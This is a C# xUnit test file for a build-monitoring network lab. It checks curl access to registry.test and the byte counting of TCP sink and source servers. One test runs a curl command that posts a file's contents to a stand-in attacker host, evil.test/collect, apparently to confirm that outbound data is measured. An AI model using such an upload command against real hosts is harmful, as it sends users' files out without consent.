using System.Net.Sockets;
using System.Text;
using BuildSentry.Testing.Lab;

namespace BuildSentry.Linux.Tests.Lab;

[Collection(NetworkLabCollection.Name)]
public sealed class NetworkLabServerTests(NetworkLabFixture shared)
{
    private NetworkLab Lab => shared.Lab;

    [Fact]
    public async Task Curl_in_a_job_fetches_http_from_registry_test_by_name()
    {
        var result = await Lab.RunInLabAsync("curl", "-sS", "--max-time", "10", "http://registry.test/ok");

        Assert.True(result.Succeeded, result.ToString());
        Assert.Equal("ok\n", result.StandardOutput);
    }

    [Fact]
    public async Task Curl_in_a_job_fetches_https_from_registry_test_trusting_the_lab_certificate()
    {
        var result = await Lab.RunInLabAsync(
            "curl", "-sS", "--max-time", "10", "--cacert", Lab.CertificatePath, "https://registry.test/ok");

        Assert.True(result.Succeeded, result.ToString());
        Assert.Equal("ok\n", result.StandardOutput);
    }

    [Theory]
    [InlineData("-4")]
    [InlineData("-6")]
    public async Task Curl_reaches_registry_test_over_each_address_family(string family)
    {
        var result = await Lab.RunInLabAsync("curl", "-sS", family, "--max-time", "10", "http://registry.test/ok");

        Assert.True(result.Succeeded, result.ToString());
        Assert.Equal("ok\n", result.StandardOutput);
    }

    [Fact]
    public async Task Bytes_posted_to_evil_test_are_counted_as_received_by_evil_test()
    {
        var payload = Path.GetTempFileName();
        await File.WriteAllBytesAsync(payload, new byte[1000]);
        var before = Lab.BytesReceivedBy("evil.test");
        try
        {
            var result = await Lab.RunInLabAsync(
                "curl", "-sS", "--max-time", "10", "--data-binary", "@" + payload, "http://evil.test/collect");

            Assert.True(result.Succeeded, result.ToString());
            Assert.Equal("received 1000 bytes\n", result.StandardOutput);
            Assert.InRange(Lab.BytesReceivedBy("evil.test") - before, 1000, 2000);
        }
        finally
        {
            File.Delete(payload);
        }
    }

    [Fact]
    public async Task The_sink_counts_every_byte_it_receives_and_answers_the_count()
    {
        const int size = 3 << 20;
        var before = Lab.BytesReceivedBy("mirror.test");
        using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
        await socket.ConnectAsync(Lab.Mirror.IPv6, NetworkLab.SinkPort);

        await socket.SendAsync(new byte[size]);
        socket.Shutdown(SocketShutdown.Send);

        Assert.Equal($"{size}\n", await ReadToEndAsync(socket));
        Assert.Equal(size, Lab.BytesReceivedBy("mirror.test") - before);
    }

    [Fact]
    public async Task The_source_sends_as_many_bytes_as_asked()
    {
        using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
        await socket.ConnectAsync(Lab.Mirror.IPv4, NetworkLab.SourcePort);

        await socket.SendAsync("5000000\n"u8.ToArray());

        Assert.Equal(5_000_000, (await ReadToEndAsync(socket)).Length);
    }

    private static async Task<string> ReadToEndAsync(Socket socket)
    {
        var received = new MemoryStream();
        var buffer = new byte[1 << 16];
        int count;
        while ((count = await socket.ReceiveAsync(buffer)) > 0)
        {
            received.Write(buffer, 0, count);
        }

        return Encoding.Latin1.GetString(received.ToArray());
    }
}
